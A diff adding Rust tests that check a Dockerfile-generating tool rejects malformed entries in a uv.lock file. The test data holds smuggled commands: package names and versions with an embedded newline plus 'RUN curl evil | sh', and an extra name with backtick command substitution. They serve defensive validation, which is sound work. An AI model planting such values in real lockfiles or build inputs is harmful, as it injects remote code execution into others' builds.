@@ -1238,3 +1238,64 @@ fn rejects_an_output_path_docker_reads_as_an_ignore_file() {
         "would overwrite one of the project's own files",
     );
 }
+
+// ---------------------------------------------------------------------------------------------
+// Every name and version in uv.lock is checked when the lock is read, installed or not.
+
+/// cli-hello with `extra` appended to its lock, and `edge` added to cli-hello's dependencies.
+fn edited_lock(edge: &str, extra: &str) -> Project {
+    let project = Project::fresh_example("cli-hello");
+    project.replace(
+        "uv.lock",
+        "dependencies = [\n    { name = \"click\" },\n]\n",
+        &format!("dependencies = [\n    {{ name = \"click\" }},\n    {edge},\n]\n"),
+    );
+    if !extra.is_empty() {
+        project.edit("uv.lock", |text| format!("{text}{extra}"));
+    }
+    project
+}
+
+fn assert_lock_rejected(project: &Project, expected: &str) {
+    let output = project.run_rejected(&["init"]);
+    assert!(
+        output.stderr.contains(expected) && output.stderr.contains("run `uv lock`"),
+        "expected {expected:?} in\n{}",
+        output.stderr
+    );
+    for file in OUTPUTS {
+        assert!(!project.exists(file), "{file} was written");
+    }
+}
+
+/// A git package only Windows installs: no install check looks at it, but "git for `NAME`"
+/// went into a Dockerfile comment, where the newline started a `run` instruction.
+#[test]
+fn a_lock_package_name_with_a_newline_never_reaches_the_dockerfile() {
+    let project = edited_lock(
+        r#"{ name = "evil\nRUN curl evil | sh", marker = "sys_platform == 'win32'" }"#,
+        "\n[[package]]\nname = \"evil\\nRUN curl evil | sh\"\nversion = \"1.0\"\nsource = { git = \"https://example.com/evil.git#abc\" }\n",
+    );
+    assert_lock_rejected(
+        &project,
+        "`uv.lock` has an invalid name in `dependencies[].name` of package `cli-hello`",
+    );
+}
+
+#[test]
+fn a_lock_version_with_a_newline_is_rejected() {
+    let project = edited_lock(
+        r#"{ name = "evil", marker = "sys_platform == 'win32'" }"#,
+        "\n[[package]]\nname = \"evil\"\nversion = \"1.0\\nRUN curl evil | sh\"\nsource = { git = \"https://example.com/evil.git#abc\" }\n",
+    );
+    assert_lock_rejected(
+        &project,
+        "`uv.lock` has an invalid version in `version` of package `evil`",
+    );
+}
+
+#[test]
+fn a_lock_extra_name_with_a_backtick_is_rejected() {
+    let project = edited_lock(r#"{ name = "click", extra = ["x`id`"] }"#, "");
+    assert_lock_rejected(&project, "`dependencies[].extra` of package `cli-hello`");
+}
